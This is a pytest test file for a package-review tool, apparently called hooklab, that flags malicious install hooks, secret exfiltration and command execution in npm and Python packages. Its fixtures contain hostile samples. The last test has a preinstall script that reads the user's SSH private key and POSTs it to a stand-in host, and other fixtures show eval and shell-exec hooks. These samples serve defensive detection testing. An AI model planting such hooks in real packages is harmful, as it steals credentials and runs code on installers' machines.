"""Every fixture is rated high where its payload acts, with a finding on the payload's line;
a clean package is low everywhere; the case study matches the chapter where it should."""

from __future__ import annotations

import ast
import io
import json
import tarfile
from pathlib import Path

import pytest

from hooklab.fixtures import all_fixtures, build
from hooklab.review import case_study_archive, compare_with_chapter, review

INSTALL_STAGES = {"preinstall", "install", "postinstall", "prepare", "build", "python-start"}
FIXTURES = all_fixtures()


def _expected_category(stage: str) -> str:
    if stage == "runtime":  # a dependency's code that sends a secret when the program runs
        return "secrets"
    return "install" if stage in INSTALL_STAGES else "output_llm"


def payload_place(fx, file: str) -> str:
    """Where a payload file sits in the package: a bundled dependency's folder is packed under
    node_modules/NAME/."""
    for name, folder in fx.bundle.items():
        if file.startswith(f"{folder}/"):
            return f"node_modules/{name}/{file.removeprefix(folder + '/')}"
    return file.removeprefix("package/")


def _assert_payloads_found(report, fx) -> None:
    for payload in fx.payloads:
        cat = _expected_category(payload.stage)
        assert report.level(cat) == "high", (fx.name, cat, report.summary())
        where = payload_place(fx, payload.file)
        found = report.category(cat).findings
        if payload.stage == "runtime":  # the marker line is the stand-in; the send is the harm
            hits = [f for f in found if f.file == where and f.level == "high"]
        else:
            hits = [f for f in found if (f.file, f.line) == (where, payload.line)]
        assert hits, f"{fx.name}: no {cat} finding at {where}:{payload.line}"


@pytest.mark.parametrize("fx", FIXTURES, ids=[f.name for f in FIXTURES])
def test_fixture_source_is_high_at_the_payload_line(fx, tmp_path: Path) -> None:
    if not fx.bundle:
        _assert_payloads_found(review(fx.source), fx)
        return
    # A bundled dependency is in the packed tarball, not in the source folder: the folder's
    # review says so, and the tarball's finds the payload.
    rules = {f.rule for _, f in review(fx.source).findings}
    assert "install.limit" in rules, fx.name
    _assert_payloads_found(review(build(fx, tmp_path)["tgz"]), fx)


@pytest.mark.parametrize("fx", FIXTURES, ids=[f.name for f in FIXTURES])
def test_fixture_download_is_high_at_the_payload_line(fx, tmp_path: Path) -> None:
    """The artefact a user would fetch: the npm tarball, else the sdist, else the wheel."""
    made = build(fx, tmp_path)
    artefact = made.get("tgz") or made.get("sdist") or made["wheel"]
    _assert_payloads_found(review(artefact), fx)


def _tgz(path: Path, files: dict[str, str]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


CLEAN_NPM = {
    "package.json": json.dumps(
        {
            "name": "clean-hello",
            "version": "1.0.0",
            "bin": {"hi": "index.js"},
            "scripts": {"test": "node test.js"},
        }
    ),
    "index.js": "#!/usr/bin/env node\nconst { greet } = require('./lib/greet');\nconsole.log(greet('you'));\n",  # noqa: E501
    "lib/greet.js": "exports.greet = (who) => `hello, ${who}`;\n",
}
CLEAN_PY = {
    "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'  # noqa: E501
    '[project]\nname = "clean-hello"\nversion = "1.0.0"\n'
    '[project.scripts]\nclean-hello = "clean_hello:main"\n',
    "clean_hello/__init__.py": '"""Say hello."""\n\n\ndef main() -> None:\n    print("hello")\n',
}


@pytest.mark.parametrize("files", [CLEAN_NPM, CLEAN_PY], ids=["npm", "python"])
def test_clean_package_is_low_everywhere(files, tmp_path: Path) -> None:
    report = review(_tgz(tmp_path / "clean.tgz", files))
    assert report.overall == "low", report.findings_frame().to_string()
    assert all(c.level == "low" for c in report.categories)
    assert "low in all six" in report.summary("en").lower()


def test_the_summary_follows_the_kit_language(tmp_path: Path, monkeypatch) -> None:
    report = review(_tgz(tmp_path / "clean.tgz", CLEAN_NPM))
    monkeypatch.setenv("HOOKLAB_LANG", "en")
    assert report.summary() == report.summary("en") != report.summary("ko")
    monkeypatch.setenv("HOOKLAB_LANG", "ko")
    assert report.summary() == report.summary("ko")
    assert report.summary().startswith("여섯 범주 모두 낮음")


def test_hooks_are_followed_into_required_files(tmp_path: Path) -> None:
    files = {
        "package.json": json.dumps(
            {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node hooks/run.js"}}
        ),
        "hooks/run.js": "require('./net');\n",
        "hooks/net.js": "const https = require('https');\nhttps.get('https://example.invalid/x');\n",
        "binding.gyp": '{"targets": [{"target_name": "a", "sources": ["<!(sh make.sh)"]}]}\n',
    }
    report = review(_tgz(tmp_path / "x.tgz", files))
    rules = {(f.rule, f.file, f.line) for _, f in report.findings}
    assert ("install.network", "hooks/net.js", 2) in rules
    assert any(r == "install.gyp-command" for r, _, _ in rules)


def test_python_hook_kinds_are_all_seen(tmp_path: Path) -> None:
    files = {
        "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n'
        '[tool.setuptools.cmdclass]\nbuild_py = "helpers.cmds.Build"\n',
        "hatch_build.py": "import subprocess\nsubprocess.run('id', shell=True)\n",
        "helpers/cmds.py": "import os\nclass Build:\n    def run(self):\n        eval(os.environ['X'])\n",  # noqa: E501
        "setup.py": "from setuptools import setup\nsetup(cmdclass={})\n",
    }
    report = review(_tgz(tmp_path / "p.tgz", files))
    rules = {(f.rule, f.file) for _, f in report.findings}
    assert ("install.hatch-hook", "pyproject.toml") in rules
    assert ("install.exec", "hatch_build.py") in rules
    assert ("install.eval", "helpers/cmds.py") in rules
    assert ("install.cmdclass", "setup.py") in rules


def test_case_study_against_the_chapter() -> None:
    report = review(case_study_archive("2.9.6"))
    table = compare_with_chapter(report).set_index("category")
    assert table.loc["install", "kit"] == "low"
    assert table.loc["exec_privilege", "kit"] == "high"
    assert "ALLOW_ONLY" in table.loc["exec_privilege", "evidence"]
    assert any(
        f.rule == "exec.mcp-runs-commands" and "execFileSync" in f.evidence
        for f in report.category("exec_privilege").findings
    )
    assert table.loc["supply_chain", "kit"] == "low"


def test_review_never_imports_watch_or_the_reviewed_code() -> None:
    root = Path(__file__).resolve().parent.parent / "src" / "hooklab"
    for path in [*(root / "review").rglob("*.py"), root / "commands" / "review.py"]:
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            names = (
                [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else ([node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            )
            assert not any(n.startswith(("hooklab.watch", "importlib", "runpy")) for n in names), (
                path
            )


def test_a_bundled_dependency_s_install_script_is_an_install_hook(tmp_path: Path) -> None:
    """npm installs a bundled dependency with the package and runs its scripts: a scoped one,
    one level down, whose script file is named relative to its own folder."""
    dep = "node_modules/@acme/helper"
    tgz = _tgz(
        tmp_path / "p.tgz",
        {
            "package.json": json.dumps(
                {"name": "p", "version": "1.0.0", "bundleDependencies": ["@acme/helper"]}
            ),
            "index.js": "console.log('hi');\n",
            f"{dep}/package.json": json.dumps(
                {"name": "@acme/helper", "version": "1.0.0", "scripts": {"preinstall": "node s.js"}}
            ),
            f"{dep}/s.js": "const fs = require('fs');\n"
            "const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"
            "fetch('https://collect.example.net/', { method: 'POST', body: k });\n",
        },
    )
    report = review(tgz)
    assert report.level("install") == "high" and report.verdict == "malicious"
    assert any(f.file == f"{dep}/s.js" for f in report.category("install").findings)
    assert any(f.file == f"{dep}/package.json" for f in report.category("install").findings)
